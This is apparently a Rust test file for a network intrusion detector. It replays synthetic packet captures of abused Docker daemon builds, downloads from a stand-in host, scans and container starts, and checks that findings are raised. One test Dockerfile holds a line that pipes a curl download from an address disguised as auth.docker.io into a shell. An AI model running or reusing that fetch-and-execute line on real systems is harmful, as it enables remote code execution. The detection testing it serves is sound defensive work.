//! What was done to the destination before, and what the image does afterwards.

use serde_json::Value;
use tw_testkit::{Conversation, Packet, http_request, to_pcap};

use super::stage::{
    Case, DAEMON, DOCKERFILE, HOST, SILENT, STRANGER, address, at, attack, build, built, call,
    caller, download, fetched, json_answer, merged, tls,
};
use crate::support::{Lab, check_all};

const ID: &str = "4c01db0b339c7c4f4e1d9b1b1c7e6b7f0e4b1f7a6a5c4d3e2f1a0b9c8d7e6f5a";

#[test]
fn touching_the_destination_first_silences_nothing() {
    let clear = build("/v1.41/build?t=evil:1&q=1", DOCKERFILE);
    let after = |before: Vec<Packet>| merged([before, attack(&clear)]);
    let half_open = |client: &str| {
        let ends = (address(&format!("{client}:50000")), address("203.0.113.9:80"));
        let mut packets = Conversation::open(ends.0, ends.1, at(-300.0)).close();
        packets.truncate(1);
        packets
    };
    let empty =
        Conversation::open(address("10.10.1.6:50000"), address("203.0.113.9:80"), at(-300.0));
    let scan = Conversation::refused(address("203.0.113.9:50000"), address(DAEMON), at(-300.0));
    let visit = caller(
        "203.0.113.9",
        "10.10.1.5:8443",
        at(-300.0),
        &http_request("GET", "/", &[], b""),
        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
    );
    let days = |n: u32| {
        let knocks = (1..=n).map(|day| {
            Conversation::open(
                address("10.10.1.6:50000"),
                address("203.0.113.9:80"),
                at(-86_400.0 * f64::from(day) - 7200.0),
            )
            .close()
        });
        merged(knocks)
    };
    let cases = [
        Case::attack("a SYN of another host", after(half_open("10.10.1.6"))),
        Case::attack("a SYN of the host", after(half_open(HOST))),
        Case::attack("a handshake of another host", after(empty.close())),
        Case::attack(
            "a download of another host",
            after(download("10.10.1.6", "203.0.113.9:80", at(-300.0))),
        ),
        Case::attack(
            "a download of the host itself",
            after(download(HOST, "203.0.113.9:80", at(-300.0))),
        ),
        Case::attack("a scan from there", after(scan)),
        Case::attack("a visit from there", after(visit)),
        Case::attack("handshakes on five days", after(days(5))),
    ];
    check_all(&cases, Case::complaints);
}

/// `curl --resolve`: the client chooses the SNI, and no answer of DNS was seen for it.
#[test]
fn the_name_of_a_public_registry_hides_no_download() {
    let hidden = "FROM alpine:3.18\nRUN curl --resolve auth.docker.io:443:203.0.113.9 \
        https://auth.docker.io/x | sh\n";
    let forged = |dockerfile: &str| {
        merged([
            call(DAEMON, &build("/v1.41/build?t=evil:1&q=1", dockerfile), &built()),
            tls(HOST, "203.0.113.9:443", "auth.docker.io", at(1.0)),
        ])
    };
    check_all(&[Case::attack("named", forged(hidden))], Case::complaints);
    let lab = Lab::new();
    let capture = lab.file("case.pcap", &to_pcap(&forged(SILENT)));
    let told = lab.replay(&capture).succeeded().events("finding");
    let is_it = |f: &&Value| f["rule"] == "registry-new" && f["destination"]["ip"] == "203.0.113.9";
    let finding = told.iter().find(is_it).unwrap_or_else(|| panic!("{told:?}"));
    let summary = finding["summary"].as_str().unwrap_or_default();
    assert!(summary.contains("called auth.docker.io"), "{summary}");
}

#[test]
fn builds_that_overlap_share_what_neither_names() {
    let request = |tag: &str| build(&format!("/v1.41/build?t={tag}&q=1"), SILENT);
    let other = Conversation::open(address("10.10.1.21:40100"), address(DAEMON), at(0.3))
        .client_sends(&request("evil:1"))
        .wait(super::stage::seconds(3))
        .server_sends(&built())
        .close();
    let named = Conversation::open(address("10.10.1.21:40100"), address(DAEMON), at(0.3))
        .client_sends(&build("/v1.41/build?t=evil:1&q=1", DOCKERFILE))
        .wait(super::stage::seconds(3))
        .server_sends(&built())
        .close();
    let cases = [
        Case::attack(
            "neither",
            merged([call(DAEMON, &request("evil:1"), &built()), other, fetched()]),
        )
        .unnamed()
        .of_builds(2),
        Case::attack(
            "one of them",
            merged([call(DAEMON, &request("app:2"), &built()), named, fetched()]),
        ),
    ];
    check_all(&cases, Case::complaints);
}

#[test]
fn the_container_of_the_image_is_watched_for_a_while() {
    let staged = |download: Vec<Packet>| {
        merged([
            call(DAEMON, &build("/v1.41/build?t=evil:1&q=1", SILENT), &built()),
            container(),
            download,
        ])
    };
    let within = staged(download(HOST, "203.0.113.9:80", at(190.0)));
    let outside = staged(download(HOST, "203.0.113.9:80", at(1300.0)));
    let twice = merged([within.clone(), download(HOST, "203.0.113.9:80", at(200.0))]);
    let cases = [
        Case::attack("three minutes later", within).unnamed(),
        Case::attack("and again", twice).unnamed(),
        Case::quiet("twenty minutes later", outside),
    ];
    check_all(&cases, Case::complaints);
}

/// Created and started from the image, ten seconds after the build.
fn container() -> Vec<Packet> {
    let create = http_request(
        "POST",
        "/v1.41/containers/create",
        &[("Content-Type", "application/json")],
        br#"{"Image":"evil:1","Cmd":["sh"],"HostConfig":{}}"#,
    );
    let created = json_answer("201 Created", &format!("{{\"Id\":\"{ID}\",\"Warnings\":[]}}"));
    let start = http_request("POST", &format!("/v1.41/containers/{ID}/start"), &[], b"");
    Conversation::open(address(&format!("{STRANGER}:40200")), address(DAEMON), at(10.0))
        .client_sends(&create)
        .server_sends(&created)
        .client_sends(&start)
        .server_sends(b"HTTP/1.1 204 No Content\r\nApi-Version: 1.41\r\n\r\n")
        .close()
}
